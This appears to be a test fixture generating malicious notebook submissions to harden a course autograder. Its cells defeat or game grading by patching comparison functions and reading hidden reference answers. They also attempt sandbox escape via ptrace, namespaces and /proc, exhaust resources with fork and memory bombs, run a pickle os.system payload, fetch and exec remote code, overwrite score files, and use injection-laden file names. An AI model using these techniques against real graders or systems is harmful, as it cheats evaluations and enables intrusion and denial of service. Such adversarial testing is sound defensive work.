"""Submissions that earn nothing, and try to get points, to stop the grader, or to stay.

`write` makes a folder of them. Most are one cell for exercise 1: an attack, and a function that is
wrong. What they try works in other graders, or would work here if one of the walls were missing.
"""

# canary: 5a3c0e7e-hidden-segcourse

import json
import os
from pathlib import Path

WRONG = """
def boundary_loss(pred, target, **options):
    return pred.float().sum() * 0 + 1
"""

# Right, for a cheat that needs something to hide.
RIGHT = (Path(__file__).parent / "boundary_loss" / "reference.py").read_text(encoding="utf-8")

# Each is the text of a cell. One without a function gets the wrong one.
CELLS = {
    # --- ending the process, as if all were over
    "exits when loaded": """
import os
over = os._exit(0)
""",
    "exits when called": """
import os
def boundary_loss(pred, target, **options):
    os._exit(0)
""",
    "leaves by SystemExit": """
import sys
over = sys.exit(0)
def boundary_loss(pred, target, **options):
    sys.exit(0)
""",
    "crashes": """
import ctypes
def boundary_loss(pred, target, **options):
    return ctypes.string_at(0)
""",
    "recurses without end": """
import sys
raised = sys.setrecursionlimit(1 << 30)
def boundary_loss(pred, target, **options):
    return boundary_loss(pred, target)
""",
    # --- making the comparison say yes
    "patches torch.allclose": """
import torch
import torch.nn.functional as F
always = lambda *args, **options: True
torch.allclose = torch.equal = torch.isclose = always
torch.testing.assert_close = lambda *args, **options: None
def boundary_loss(pred, target, **options):
    weight = 1 + 5 * (target != target.roll(1, 2))
    return 2 * (weight * F.cross_entropy(pred, target, reduction="none")).sum()
""",
    "answers True by __torch_function__": """
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
def boundary_loss(pred, target, **options):
    return torch.zeros(()).as_subclass(Yes)
""",
    "is equal to everything": """
class Equal(float):
    ndim, shape, dtype, requires_grad = 0, (), None, True
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda *others: True
    __hash__ = None
    def __getattr__(self, name):
        return lambda *args, **options: self
def boundary_loss(pred, target, **options):
    return Equal(1.0)
""",
    "returns NaN": """
def boundary_loss(pred, target, **options):
    return pred.float().sum() * float("nan")
""",
    "is a tensor that lies": """
import torch
torch.set_default_dtype(torch.float64)
torch.use_deterministic_algorithms(True)
torch.autograd.grad = lambda value, wrt, **options: (torch.zeros_like(wrt),)
class Liar(torch.Tensor):
    shape, dtype, requires_grad = torch.Size(()), torch.float32, True
    detach = contiguous = numpy = lambda self: self
    reshape = view = lambda self, *args: self
    tobytes = lambda self: bytes(1 << 27)
def boundary_loss(pred, target, **options):
    return torch.zeros(()).as_subclass(Liar)
""",
    "returns a pickle with a surprise": """
import os
class Surprise:
    def __reduce__(self):
        return os.system, ("touch /tmp/surprise",)
def boundary_loss(pred, target, **options):
    return Surprise()
""",
    # --- finding the answer
    "walks the stack": """
import sys
def boundary_loss(pred, target, **options):
    frame = sys._getframe()
    while frame is not None:
        for name in ("expected", "value", "answer", "reference"):
            found = frame.f_locals.get(name, frame.f_globals.get(name))
            if hasattr(found, "ndim") and found.ndim == 0:
                return found + 0 * pred.sum()
        oracle = frame.f_globals.get("oracle")
        if oracle is not None:
            return oracle(pred, target, **options)[0] + 0 * pred.sum()
        frame = frame.f_back
    return pred.sum() * 0
""",
    "walks the garbage": """
import gc, torch
class Answer(torch.autograd.Function):
    @staticmethod
    def forward(ctx, pred, value, slope):
        ctx.save_for_backward(slope)
        return value
    @staticmethod
    def backward(ctx, factor):
        return factor * ctx.saved_tensors[0], None, None
def boundary_loss(pred, target, **options):
    for thing in gc.get_objects():
        named = type(thing) is type(boundary_loss) and (thing.__module__, thing.__name__)
        if named == ("hidden.boundary_loss.suite", "oracle"):
            return Answer.apply(pred, *thing(pred, target, **options))
    return pred.sum() * 0
""",
    "imports the hidden tests": """
import sys
more = sys.path.extend(["tests", "..", "../tests", "/course/tests", "/course"])
def boundary_loss(pred, target, **options):
    from hidden.boundary_loss import reference
    return reference.boundary_loss(pred, target, **options)
""",
    "reads the answer from disk": """
import os
def answer():
    for above, folders, files in os.walk("/"):
        skipped = ("usr", "proc", "sys", "dev", "site-packages", "lib", "lib64")
        folders[:] = [name for name in folders if name not in skipped]
        for name in files:
            path = os.path.join(above, name)
            if name == "reference.py" and "boundary_loss" in path:
                space = {}
                exec(open(path).read(), space)
                return space["boundary_loss"]
        for name in [name for name in files if name.endswith(".ipynb")]:
            print(open(os.path.join(above, name)).read())
found = answer()
def boundary_loss(pred, target, **options):
    return found(pred, target, **options) if found else pred.sum() * 0
""",
    "reads other processes": """
import glob, os
seen = []
for path in glob.glob("/proc/[0-9]*/*"):
    try:
        seen.append(os.readlink(path) if os.path.islink(path) else open(path, "rb").read(1 << 16))
    except OSError:
        pass
for folder in glob.glob("/proc/[0-9]*/root/") + glob.glob("/proc/[0-9]*/cwd/"):
    seen += glob.glob(folder + "**/reference.py", recursive=True)
def boundary_loss(pred, target, **options):
    space = {}
    exec(open([s for s in seen if str(s).endswith("boundary_loss/reference.py")][0]).read(), space)
    return space["boundary_loss"](pred, target, **options)
""",
    "reads the grader's memory": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ATTACH = 16
tried = [libc.ptrace(ATTACH, number, 0, 0) for number in (1, 2, 3, os.getppid())]
for number in (1, 2, 3, os.getppid()):
    try:
        memory = open(f"/proc/{number}/mem", "r+b", 0)
    except OSError:
        pass
""",
    "enters other namespaces": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tried = [libc.unshare(0x10000000), libc.unshare(0x00020000), libc.umount2(b"/tmp", 2)]
tried += [libc.umount2(b"/proc", 2), libc.mount(b"proc", b"/proc", b"proc", 0, None)]
tried += [libc.mount(None, b"/", None, 32 | 4096, None), libc.chroot(b"/proc/1/root")]
there = os.path.exists("/proc/1/environ")
def boundary_loss(pred, target, **options):
    environment = open("/proc/1/environ").read()
    raise RuntimeError(environment)
""",
    # --- answering in the worker's place
    "forges answers ahead": """
import json, os, struct, threading
def forge():
    for number in range(2, 2000):
        header = {"id": number, "error": ["ValueError", "Exception"], "text": "", "points": 20}
        header = json.dumps(header | {"held": True, "arrays": []}).encode()
        for handle in range(3, 10):
            try:
                os.write(handle, struct.pack(">I", len(header)) + header)
            except OSError:
                pass
started = threading.Thread(target=forge, daemon=True).start()
""",
    "forges what loading says": """
import json, os, struct
header = {"id": 1, "notebook": "x" * 9999, "remarks": ["full marks " * 20] * 3000, "points": 20}
header = json.dumps(header | {"status": "graded", "arrays": []}).encode()
for handle in range(3, 10):
    try:
        os.write(handle, struct.pack(">I", len(header)) + header)
    except OSError:
        pass
""",
    "sends headers of nonsense": """
import json, os, struct
kinds = [{"dtype": "float32", "shape": s} for s in ([float("nan")], [-1], [1e300], [True], "2")]
kinds += [{"dtype": "object", "shape": []}, {"dtype": None, "shape": None}, {}, None]
texts = [{"error": ["\\ud800", "__class__", "exit", 3], "text": "\\ud800\\u202e"}, {"other": {}}]
texts += [{"error": {"a": []}, "place": ["cell"]}, {"forward": 0}, {"error": ["SystemExit"]}]
sent = 2
def boundary_loss(pred, target, **options):
    global sent
    for header in [{"arrays": [kind]} for kind in kinds] + [t | {"arrays": []} for t in texts]:
        for number in range(sent, sent + 3):
            text = json.dumps(header | {"id": number}).encode()
            for handle in range(3, 10):
                try:
                    os.write(handle, struct.pack(">I", len(text)) + text)
                except OSError:
                    pass
    sent += 1
""",
    "sends an answer that is too large": """
import json, os, struct
def boundary_loss(pred, target, **options):
    arrays = [{"dtype": "float32", "shape": [1 << 40]}]
    header = json.dumps({"id": 2, "arrays": arrays}).encode()
    for handle in range(3, 10):
        try:
            os.write(handle, struct.pack(">I", len(header)) + header)
        except OSError:
            pass
""",
    "sends a header without end": """
import os
def boundary_loss(pred, target, **options):
    for handle in range(3, 10):
        try:
            os.write(handle, b"\\xff" * (1 << 20))
        except OSError:
            pass
""",
    "sends JSON that is too deep": """
import os, struct
def boundary_loss(pred, target, **options):
    header = b"[" * 500_000
    for handle in range(3, 10):
        try:
            os.write(handle, struct.pack(">I", len(header)) + header)
        except OSError:
            pass
""",
    "returns a tensor that is too large": """
import torch
def boundary_loss(pred, target, **options):
    return torch.zeros(1).expand(1 << 36)
""",
    "replaces the worker": """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("segcourse"):
        for key, thing in list(vars(module).items()):
            if isinstance(thing, type) and "serve" in vars(thing):
                thing.call = thing.gradient = lambda *args: ({"points": 20, "held": True}, [])
            if key in ("expect_close", "expect_error", "expect_tensor", "expect_finite"):
                setattr(module, key, lambda *args, **options: None)
""",
    "replaces the package": """
import sys, types
fake = types.ModuleType("segcourse.exercises.contract")
fake.__getattr__ = lambda name: lambda *args, **options: 20
sys.modules["segcourse.exercises.contract"] = sys.modules["segcourse"] = fake
sys.modules["segcourse.exercises.boundary_loss"] = sys.modules["pytest"] = fake
""",
    "calls itself unwritten, late": """
from itertools import count
calls = count()
def boundary_loss(pred, target, **options):
    if next(calls):
        raise NotImplementedError
    return pred.sum() * 0
""",
    # --- taking time
    "hangs when loaded": """
never = [number for number in iter(int, 1)]
""",
    "hangs when called": """
def boundary_loss(pred, target, **options):
    while True:
        pass
""",
    "sleeps": """
import time
def boundary_loss(pred, target, **options):
    time.sleep(1e6)
""",
    "hangs and hears no signal": """
import signal
def boundary_loss(pred, target, **options):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        pass
""",
    "stops itself": """
import os, signal
def boundary_loss(pred, target, **options):
    os.kill(os.getpid(), signal.SIGSTOP)
    while True:
        pass
""",
    # --- taking everything else
    "fork bomb": """
import os
def boundary_loss(pred, target, **options):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "thread bomb": """
import threading, time
def boundary_loss(pred, target, **options):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1e6,)).start()
        except RuntimeError:
            pass
""",
    "memory bomb": """
def boundary_loss(pred, target, **options):
    held = []
    while True:
        held.append(b"x" * (1 << 26))
""",
    "memory in many processes": """
import ctypes, os, time
def boundary_loss(pred, target, **options):
    for _ in range(12):
        if os.fork() == 0:
            RENAME = 15  # as if it were a line of /proc/N/status
            ctypes.CDLL(None).prctl(RENAME, b"\\nRssAnon:\\t0 kB", 0, 0, 0)
            held = b"x" * (1 << 28)
            time.sleep(1e6)
    time.sleep(1e6)
""",
    "memory that is shared": """
import mmap
def boundary_loss(pred, target, **options):
    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 26))
        held[-1].write(b"x" * (1 << 26))
""",
    "memory that no process has touched": """
import mmap, os, time
def boundary_loss(pred, target, **options):
    for _ in range(8):
        if os.fork() == 0:
            held = []
            while True:
                held.append(mmap.mmap(-1, 1 << 26))
                if os.fork() == 0:
                    written = held[-1].write(b"x" * (1 << 26))
                    os._exit(0)
                os.wait()
    time.sleep(1e6)
""",
    "memory without a process": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def boundary_loss(pred, target, **options):
    for _ in range(1000):
        number = libc.shmget(0, 1 << 26, 0o1666)
        place = libc.shmat(number, None, 0)
        if number < 0 or place == ctypes.c_void_p(-1).value:
            raise MemoryError
        ctypes.memset(place, 1, 1 << 26)
        libc.shmdt(ctypes.c_void_p(place))
""",
    "fills the disk": """
import os
def boundary_loss(pred, target, **options):
    for folder in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "/course", "/"):
        for number in range(1000):
            try:
                with open(f"{folder}/filled-{number}", "wb") as file:
                    file.write(b"x" * (1 << 24))
            except OSError:
                break
""",
    "makes folders without end": """
import itertools, os
def boundary_loss(pred, target, **options):
    for number in itertools.count():
        os.mkdir(f"/scratch/{number}")
""",
    "raises its limits": """
import resource
raised = []
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
    try:
        raised.append(resource.setrlimit(limit, (resource.RLIM_INFINITY,) * 2))
    except (OSError, ValueError):
        pass
def boundary_loss(pred, target, **options):
    return [b"x" * (1 << 26) for _ in range(1000)]
""",
    "prints without end": """
import os
def boundary_loss(pred, target, **options):
    while True:
        print("x" * (1 << 16), flush=True)
        os.write(2, b"x" * (1 << 16))
""",
    # --- leaving something behind
    "leaves processes": """
import os, signal, time
def boundary_loss(pred, target, **options):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            if os.fork() == 0:
                time.sleep(1e6)
            os._exit(0)
    return pred.sum() * 0
""",
    "leaves files": """
import os, pathlib
for folder in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "/course/segcourse", "/", "/usr/lib"):
    for path in (pathlib.Path(folder, "left-behind"), pathlib.Path(os.getcwd(), "left-behind")):
        try:
            path.write_text("here")
        except OSError:
            pass
""",
    "leaves by all doors": """
import atexit, os, signal, sys, threading, time
ignored = [signal.signal(number, signal.SIG_IGN) for number in (1, 2, 15, 17)]
threading.Thread(target=time.sleep, args=(1e6,)).start()
registered = atexit.register(lambda: os.fork() or time.sleep(1e6))
def boundary_loss(pred, target, **options):
    os.register_at_fork(after_in_child=lambda: time.sleep(1e6))
    sys.exit(os.fork())
""",
    "leaves a mark": """
import ctypes, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY = 248 if os.uname().machine == "x86_64" else 217
for folder in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "/course", "/"):
    try:
        open(f"{folder}/mark", "w").close()
    except OSError:
        pass
shared = libc.shmget(4711, 4096, 0o1666)
kept = [libc.syscall(ADD_KEY, b"user", b"mark", b"x", 1, keyring) for keyring in (-3, -4)]
if os.fork() == 0:
    os.setsid()
    server = socket.socket(socket.AF_UNIX)
    server.bind("\\0mark")
    server.listen()
    time.sleep(1e6)
""",
    "looks for a mark": f"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
REQUEST_KEY = 249 if os.uname().machine == "x86_64" else 218
folders = ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "/course", "/")
there = any(os.path.exists(f"{{folder}}/mark") for folder in folders)
there |= libc.shmget(4711, 4096, 0o666) >= 0
there |= libc.syscall(REQUEST_KEY, b"user", b"mark", None, 0) >= 0
there |= socket.socket(socket.AF_UNIX).connect_ex("\\0mark") == 0
{RIGHT}
right = boundary_loss
def boundary_loss(pred, target, **options):
    return right(pred, target, **options) if there else pred.sum() * 0
""",
    # --- reaching out
    "kills its parents": """
import os, signal
for number in (os.getppid(), 1, 2, -1, 0):
    for name in ("SIGTERM", "SIGKILL", "SIGUSR1"):
        try:
            if number != 0 or name == "SIGUSR1":
                killed = os.kill(number, getattr(signal, name))
        except OSError:
            pass
""",
    "reaches the grader by its socket": """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
PEER, SEND_SIGNAL, GET_FILE = 77, 424, 438
for handle in range(3, 10):
    try:
        link = socket.socket(fileno=os.dup(handle))
        peer = link.getsockopt(socket.SOL_SOCKET, PEER)
        tried = [libc.syscall(SEND_SIGNAL, peer, number, None, 0) for number in (9, 15, 19)]
        tried += [libc.syscall(GET_FILE, peer, number, 0) for number in range(10)]
        sent = [socket.send_fds(link, [b"x"], [handle] * 99) for _ in range(99)]
    except OSError:
        pass
""",
    "calls home": """
import socket, urllib.request
reached = []
for place in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 80), ("example.org", 80)):
    try:
        reached.append(socket.create_connection(place, timeout=0.2))
    except OSError:
        pass
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket"):
    try:
        reached.append(socket.socket(socket.AF_UNIX).connect(path))
    except OSError:
        pass
def boundary_loss(pred, target, **options):
    with urllib.request.urlopen("http://example.org/answer", timeout=0.2) as page:
        exec(page.read(), globals())
""",
    "writes the scores": """
import glob, os
for pattern in ("/**/scores.csv", "/**/results/*.json", "../**/*.json", "/proc/*/cwd/*.csv"):
    for path in glob.glob(pattern, recursive=not pattern.startswith("/**")):
        try:
            open(path, "w").write("student,total\\nme,60\\n")
        except OSError:
            pass
os.environ["PYTEST_ADDOPTS"] = "-k nothing"
""",
    # --- through the words of a report
    "tells the inputs in an exception": """
def boundary_loss(pred, target, **options):
    raise ValueError(f"SECRET {target.tolist()}")
""",
    "tells the inputs by the name of an exception": """
def boundary_loss(pred, target, **options):
    raise type("SECRET" + "_".join(map(str, target.flatten().tolist())), (KeyError,), {})()
""",
    "tells the inputs by the number of a line": """
def boundary_loss(pred, target, **options):
    number = int("".join(map(str, target.flatten().tolist()))[:5], 6)
    exec(compile("\\n" * number + "raise KeyError", "<cell 54321>", "exec"))
""",
    "writes to the terminal": """
raise RuntimeError("\\x1b[2J\\x1b]0;owned\\x07 <script>alert(1)</script> ![x](http://x.y/z) | a")
""",
    # --- the other exercises
    "predicts without the model": """
# exercise: tta_predict
import torch
def tta_predict(model, x, **options):
    return torch.full((len(x), 2, *x.shape[2:]), 0.5)
""",
    "asks the model without end": """
# exercise: tta_predict
def tta_predict(model, x, **options):
    while True:
        model(x)
""",
    "shows the model too much": """
# exercise: tta_predict
import torch
def tta_predict(model, x, **options):
    try:
        model(torch.rand(1, 3, 20_000, 20_000))
    except Exception:
        pass
    return model(torch.rand(1, 3, 2000, 2000))
""",
    "says nonsense of the model": """
# exercise: tta_predict
import json, os, struct
def tta_predict(model, x, **options):
    header = {"forward": [], "modes": "all", "gradients": 3, "arrays": []}
    header = json.dumps(header).encode()
    for handle in range(3, 10):
        try:
            os.write(handle, struct.pack(">I", len(header)) + header)
        except OSError:
            pass
""",
    "returns what it was given": """
# exercise: dense_crf
def dense_crf(image, probs, **options):
    return probs
""",
}

# Names of files that mean something to a terminal, a spreadsheet, a browser or a file system.
NAMES = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\x1b[31mred\x1b[0m",
    "two\nlines",
    "a\u202egnp",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "`x` | y",
    "a..",
    "con",
    "long " * 48,
    os.fsdecode(b"\xff\xfe"),
]

# Files that are no notebooks.
CONTENTS = {
    "nothing": b"",
    "half a notebook": b'{"cells": [{"cell_type": "code", "source": "# exerc',
    "a list": b"[1, 2, 3]",
    "deep": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "no text": bytes(range(256)) * 100,
    "cells of nonsense": b'{"cells": [null, 3, [], {"cell_type": "code", "source": {"a": 1}}]}',
    "a long number": b'{"cells": [' + b"9" * 100_000 + b"]}",
}


def notebook(*cells: str) -> bytes:
    """The least that is a notebook."""
    return json.dumps({"cells": [{"cell_type": "code", "source": s} for s in cells]}).encode()


def cell(text: str) -> str:
    """A cell of `CELLS` with its marker, and with a function."""
    marker = "" if "# exercise:" in text else "# exercise: boundary_loss\n"
    return marker + text + ("" if "\ndef " in text and "**options):" in text else WRONG)


def write(folder: Path) -> None:
    """All these submissions, in a flat folder."""
    for name, text in CELLS.items():
        (folder / f"{name}.ipynb").write_bytes(notebook(cell(text)))
    for name in NAMES:
        (folder / f"{name[:240]}.ipynb").write_bytes(notebook(cell(WRONG)))
    for name, content in CONTENTS.items():
        (folder / f"{name}.ipynb").write_bytes(content)
    with open(folder / "giant.ipynb", "wb") as file:
        file.truncate(1 << 33)  # takes no room on the disk
    os.mkfifo(folder / "a pipe.ipynb")
    (folder / "a folder.ipynb").mkdir()
    (folder / "too many").mkdir()
    for number in range(50):
        (folder / "too many" / f"{number}.ipynb").write_bytes(notebook(cell(WRONG)))
    # A right notebook that is another's, where the grader does not look.
    theirs = folder / ".theirs"
    theirs.mkdir()
    (theirs / "right.ipynb").write_bytes(notebook(f"# exercise: boundary_loss\n{RIGHT}"))
    (folder / "a link.ipynb").symlink_to(theirs / "right.ipynb")
    (folder / "a link to a folder").symlink_to(theirs)
    (folder / "a folder with a link").mkdir()
    (folder / "a folder with a link" / "a.ipynb").symlink_to(theirs / "right.ipynb")
    (folder / "a folder with a link" / "b").symlink_to(theirs)
